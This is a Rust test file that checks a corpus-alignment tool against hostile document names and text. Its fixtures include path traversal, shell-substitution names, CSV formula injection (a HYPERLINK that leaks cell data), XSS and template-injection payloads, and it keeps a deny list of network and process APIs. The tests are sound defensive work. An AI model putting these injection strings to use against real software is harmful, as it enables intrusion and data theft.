//! What a corpus may do, however it was made, and what it may not: the claims of the README, one by one.

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};

use paralign::error::Error;
use paralign::export::{Dialect, Formats};
use paralign::output::Foreign;
use paralign::pipeline::{Config, run};

use crate::support::{Bench, project, table};
use crate::targets::tables::tables;

/// Names of documents that mean something to a system, a shell, a spreadsheet or a page.
#[cfg(unix)]
const NAMES: [&str; 12] = [
    "=1+1",
    "-rf",
    "$(id)",
    "x..",
    "x\\..\\..\\y",
    "%2e%2e%2fx",
    "CON",
    "report",
    "blocks.csv",
    "<script>alert(1)",
    "a\nb\rc\u{1b}[2J",
    "\u{202e}txt.x",
];
/// Words of a text that mean something to a spreadsheet or a page.
const WORDS: &str = "=HYPERLINK(\"http://x.y/?\"&A1) <script>alert(1)</script> \"><img src=x onerror=alert(1)> ]]> {{ 7*7 }} &lt;b&gt; @SUM(A1) javascript:alert(1)";

/// Every file below a folder with its bytes, but for the folder `without`.
fn tree(root: &Path, without: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut out = BTreeMap::new();
    let mut open = vec![root.to_owned()];
    while let Some(folder) = open.pop() {
        for entry in fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path == without {
                continue;
            } else if path.is_dir() {
                open.push(path);
            } else {
                out.insert(path.clone(), fs::read(&path).unwrap());
            }
        }
    }
    out
}

#[cfg(unix)]
fn hostile() -> Bench {
    let bench = Bench::new();
    let text =
        format!("# {WORDS}\n\n1. {WORDS}, vu le 3 avril 2018, A/RES/64/289.\n\n2. Le Conseil <i>note</i>.\n");
    let mut manifest = csv::Writer::from_writer(Vec::new());
    manifest.write_record(["doc_id", "symbol", "title", "fr_provenance"]).unwrap();
    for name in NAMES {
        bench.put(&format!("fr/{name}.txt"), &text).put(&format!("en/{name}.txt"), &text);
        manifest.write_record([name, WORDS, WORDS, WORDS]).unwrap();
    }
    for outside in ["../outside", "/tmp/outside", "..", ""] {
        manifest.write_record([outside, WORDS, WORDS, WORDS]).unwrap();
    }
    bench.put("manifest.csv", manifest.into_inner().unwrap());
    bench
}

#[cfg(unix)]
#[test]
fn nothing_is_written_outside_the_output_folder() {
    let bench = hostile();
    let folder = bench.corpus().parent().unwrap().to_owned();
    let before = tree(&folder, &bench.output());
    bench.run();
    assert!(tree(&folder, &bench.output()) == before);
    assert_eq!(bench.table("documents").len(), 2 * NAMES.len());
    let mut inside: Vec<PathBuf> = tree(&bench.output(), Path::new("")).into_keys().collect();
    inside.retain(|path| path.parent() != Some(&bench.output()));
    let pages = bench.output().join("report");
    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '.' | '_');
    for path in inside {
        let name = path.file_name().unwrap().to_string_lossy();
        assert!(path.parent() == Some(&pages) && name.chars().all(plain), "{}", path.display());
    }
}

#[cfg(unix)]
#[test]
fn a_link_in_the_output_folder_leads_no_writing_out_of_it() {
    use std::os::unix::fs::symlink;
    let bench = hostile();
    let outside = bench.corpus().join("../outside");
    fs::create_dir(&outside).unwrap();
    fs::create_dir(bench.output()).unwrap();
    for name in ["blocks.csv", "run.json", "report.html", "paralign.xlsx"] {
        fs::write(outside.join(name), "mine").unwrap();
        symlink(outside.join(name), bench.output().join(name)).unwrap();
    }
    assert!(matches!(run(&bench.config(), &|_| {}), Err(Error::NotOurs { .. })));
    run(&Config { foreign: Foreign::Replace, ..bench.config() }, &|_| {}).unwrap();
    assert_eq!(bench.table("documents").len(), 2 * NAMES.len());
    for entry in fs::read_dir(&outside).unwrap() {
        assert_eq!(fs::read_to_string(entry.unwrap().path()).unwrap(), "mine");
    }
}

#[cfg(unix)]
#[test]
fn no_cell_of_a_spreadsheet_is_computed() {
    let bench = hostile();
    run(
        &Config { formats: Formats { dialect: Dialect::ExcelFr, ..Formats::default() }, ..bench.config() },
        &|_| {},
    )
    .unwrap();
    let (mut guarded, mut cells) = (0, 0);
    for described in &paralign::tables::TABLES {
        let path = bench.output().join(described.name).with_extension("csv");
        let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_path(path).unwrap();
        for row in reader.records() {
            for (cell, column) in row.unwrap().iter().zip(described.columns.iter()) {
                let computed = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']);
                assert!(!computed || column.kind.is_number(), "{}.{}: {cell:?}", described.name, column.name);
                guarded += usize::from(cell.starts_with("'="));
                cells += 1;
            }
        }
    }
    assert!(guarded > 10 && cells > 1_000, "{guarded} of {cells}");
    for name in ["citations_edges", "citations_nodes"] {
        let rows = table(&bench.output(), name);
        assert!(rows.iter().flat_map(|row| row.values()).any(|cell| cell.starts_with("'=")), "{name}");
        for cell in rows.iter().flat_map(|row| row.values()) {
            assert!(!cell.starts_with(['=', '+', '-', '@']), "{name}: {cell:?}");
        }
    }
    // What the guard added is taken off again, and the workbook holds the same words and no formula.
    crate::targets::tables::workbook::hold(&tables(&bench.output(), Dialect::ExcelFr), &bench.output());
}

#[cfg(unix)]
#[test]
fn the_report_runs_nothing_that_a_document_says() {
    let bench = hostile();
    bench.run();
    let page = fs::read_to_string(bench.output().join("report.html")).unwrap();
    for hostile in ["<script>alert(1)", "<img src=x", "<i>note", "href=\"javascript:", "{{ 7*7 }}</script"] {
        assert!(!page.contains(hostile), "{hostile} stands in the report as it is");
    }
    assert!(page.contains("&lt;script&gt;alert(1)"));
    // Links lead out only when they are followed; nothing is fetched when the page opens.
    for fetched in ["src=\"http", "src=http", "<link", "@import", "url(http", "<iframe", "<object", "<embed"]
    {
        assert!(!page.contains(fetched), "the report fetches something: {fetched}");
    }
}

#[cfg(unix)]
#[test]
fn no_cell_holds_a_line_end() {
    let bench = hostile();
    bench.run();
    for row in tables(&bench.output(), Dialect::Standard).into_values().flatten() {
        for (column, cell) in row {
            assert!(!cell.contains(char::is_control), "{column} holds {cell:?}");
        }
    }
}

#[test]
fn the_program_has_no_way_to_the_network_or_to_another_program() {
    let mut open = vec![project().join("src")];
    while let Some(folder) = open.pop() {
        for entry in fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                open.push(path);
            } else if path.extension().is_some_and(|ending| ending == "rs") {
                let code = fs::read_to_string(&path).unwrap();
                for way in [
                    "std::net",
                    "TcpStream",
                    "UdpSocket",
                    "process::Command",
                    "Command::new(\"",
                    "os::unix::net",
                ] {
                    assert!(!code.contains(way), "{} holds {way}", path.display());
                }
            }
        }
    }
    for root in ["src/lib.rs", "src/main.rs"] {
        let code = fs::read_to_string(project().join(root)).unwrap();
        assert!(code.contains("#![forbid(unsafe_code)]"), "{root}");
    }
    let manifest = fs::read_to_string(project().join("Cargo.toml")).unwrap();
    assert!(manifest.contains("overflow-checks = true") && !manifest.contains("panic = \"abort\""));
}
